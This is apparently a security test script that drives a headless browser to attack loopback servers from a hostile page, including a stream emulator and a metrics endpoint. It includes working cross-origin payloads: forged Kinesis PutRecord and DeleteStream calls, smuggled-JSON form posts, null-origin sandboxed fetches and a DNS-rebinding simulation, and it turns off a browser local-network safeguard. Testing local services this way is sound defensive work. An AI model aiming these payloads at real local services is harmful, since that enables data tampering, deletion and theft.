// attack.js PLAYWRIGHT BROWSER PROFILE STREAM_PORT METRICS_PORT STREAM: what a web page can do to two servers on loopback,
// and to a third one that lets everything in, to show that each attack works where nothing stops it. Prints JSON:
// { open | stream | metrics: { ATTACK: { status, read, error } }, reached: [ATTACK…], rebound: … }.
'use strict';

const http = require('node:http');

const [playwright, executablePath, profile, streamPort, metricsPort, stream] = process.argv.slice(2);
const { chromium } = require(playwright);

const PAGE = '<!doctype html><title>a page of another origin</title><body></body>';

/** Runs in the page: each attack as a page's author would write it. */
async function attackFromPage([base, paths, stream, isRebound]) {
  const address = (path, attack) => `${base}${path}${path.includes('?') ? '&' : '?'}attack=${attack}`;
  const signed = {
    'x-amz-date': '20261120T000000Z',
    'authorization': 'AWS4-HMAC-SHA256 Credential=a/b, SignedHeaders=host, Signature=c',
  };
  const operation = (name, body) => ({
    method: 'POST',
    headers: { ...signed, 'content-type': 'application/x-amz-json-1.1', 'x-amz-target': `Kinesis_20131202.${name}` },
    body: JSON.stringify(body),
  });
  const record = { StreamName: stream, PartitionKey: 'evil', Data: btoa('evil') };
  const within = (promise) =>
    Promise.race([promise, new Promise((_, fail) => setTimeout(() => fail(new Error('no answer')), 3000))]);
  const read = async (response) => ({ status: response.status, type: response.type, read: await response.text() });
  const asking = (path, options) => (attack) => within(fetch(address(path, attack), options).then(read));
  const loading = (tag, path, attribute) => (attack) => within(new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => {
      let text = null;
      try { text = element.contentDocument && element.contentDocument.body.innerText; } catch { text = null; }
      done({ status: null, read: text || null });
    };
    element.onerror = () => done({ status: null, read: null, error: 'not loaded' });
    element[attribute] = address(path, attack);
    document.body.append(element);
  }));
  const posting = (enctype) => (attack) => within(new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.name = `frame-${attack}`;
    document.body.append(frame);
    const form = document.createElement('form');
    Object.assign(form, { method: 'POST', action: address(paths[0], attack), enctype, target: frame.name });
    const input = document.createElement('input');
    Object.assign(input, { name: `{"StreamName":"${stream}","PartitionKey":"evil","Data":"`, value: 'ZXZpbA=="}' });
    form.append(input);
    document.body.append(form);
    frame.onload = () => {
      let text = null;
      try { text = frame.contentDocument && frame.contentDocument.body.innerText; } catch { text = null; }
      done({ status: null, read: text || null });
    };
    form.submit();
  }));
  /** From a frame whose origin is `null`. */
  const sandboxed = (path, options) => (attack) => within(new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.sandbox = 'allow-scripts';
    addEventListener('message', (event) => { if (event.data.attack === attack) done(event.data); });
    frame.srcdoc = `<script>
      const say = (told) => parent.postMessage({ attack: ${JSON.stringify(attack)}, ...told }, '*');
      fetch(${JSON.stringify(address(path, attack))}, ${JSON.stringify(options)})
        .then(async (response) => say({ status: response.status, read: await response.text() }))
        .catch((error) => say({ status: null, read: null, error: String(error) }));
    </scr` + 'ipt>';
    document.body.append(frame);
  }));

  const text = { method: 'POST', headers: { 'content-type': 'text/plain' }, body: JSON.stringify(record) };
  const attacks = {
    'simple-post': asking('/', text),
    'no-cors-post': asking('/', { ...text, mode: 'no-cors' }),
    'list': asking('/', operation('ListStreams', {})),
    'describe': asking('/', operation('DescribeStream', { StreamName: stream })),
    'put': asking('/', operation('PutRecord', record)),
    'delete': asking('/', operation('DeleteStream', { StreamName: stream })),
    'http-put': asking('/', { method: 'PUT', body: 'evil' }),
    'http-delete': asking('/', { method: 'DELETE' }),
    'null-origin-put': sandboxed('/', operation('PutRecord', record)),
    'null-origin-delete': sandboxed('/', operation('DeleteStream', { StreamName: stream })),
    'form-text': posting('text/plain'),
    'form-urlencoded': posting('application/x-www-form-urlencoded'),
    'beacon': async (attack) => ({ status: null, read: null, sent: navigator.sendBeacon(address('/', attack), 'evil') }),
  };
  paths.forEach((path, place) => {
    attacks[`get-${place}`] = asking(path, {});
    attacks[`no-cors-get-${place}`] = asking(path, { mode: 'no-cors' });
    attacks[`script-${place}`] = loading('script', path, 'src');
    attacks[`image-${place}`] = loading('img', path, 'src');
    attacks[`frame-${place}`] = loading('iframe', path, 'src');
  });
  const only = ['list', 'put', 'delete', 'get-0', 'get-1'];
  const told = {};
  for (const [name, attack] of Object.entries(attacks)) {
    if (isRebound && !only.includes(name)) continue;
    told[name] = await attack(name).catch((error) => ({ status: null, read: null, error: String(error) }));
  }
  return told;
}

function listen(answer) {
  const server = http.createServer(answer);
  return new Promise((done) => server.listen(0, '127.0.0.1', () => done(server.address().port)));
}

async function main() {
  const reached = new Set();
  const open = await listen((request, response) => {
    if (request.method !== 'OPTIONS') reached.add(new URL(request.url, 'http://open').searchParams.get('attack'));
    response.writeHead(200, {
      'access-control-allow-origin': '*',
      'access-control-allow-methods': '*',
      'access-control-allow-headers': 'authorization, content-type, x-amz-date, x-amz-target',
      'content-type': 'text/html',
    });
    request.resume().on('end', () => response.end('a secret'));
  });
  const evil = await listen((_, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(PAGE));
  const context = await chromium.launchPersistentContext(profile, {
    executablePath,
    headless: true,
    args: [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync',
      // Newer browsers ask a person before a page may speak to this machine; older ones do not.
      '--disable-features=LocalNetworkAccessChecks',
      '--host-resolver-rules=MAP evil.test 127.0.0.1, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE localhost',
    ],
  });
  try {
    const page = await context.newPage();
    const targets = {
      open: [open, ['/metrics', '/health']],
      stream: [streamPort, ['/metrics', '/_health']],
      metrics: [metricsPort, ['/metrics', '/health']],
    };
    const told = { rebound: {} };
    for (const [name, [port, paths]] of Object.entries(targets)) {
      await page.goto(`http://evil.test:${evil}/`);
      told[name] = await page.evaluate(attackFromPage, [`http://127.0.0.1:${port}`, paths, stream, false]);
      // The page that evil.test served before its name came to mean 127.0.0.1.
      const own = `http://evil.test:${port}`;
      await page.route(`${own}/page`, (route) => route.fulfill({ contentType: 'text/html', body: PAGE }));
      await page.goto(`${own}/page`);
      told.rebound[name] = await page.evaluate(attackFromPage, [own, paths, stream, true]);
    }
    process.stdout.write(JSON.stringify({ ...told, reached: [...reached] }));
  } finally {
    await context.close();
  }
  process.exit(0);
}

main().catch((error) => {
  console.error(error);
  process.exit(1);
});
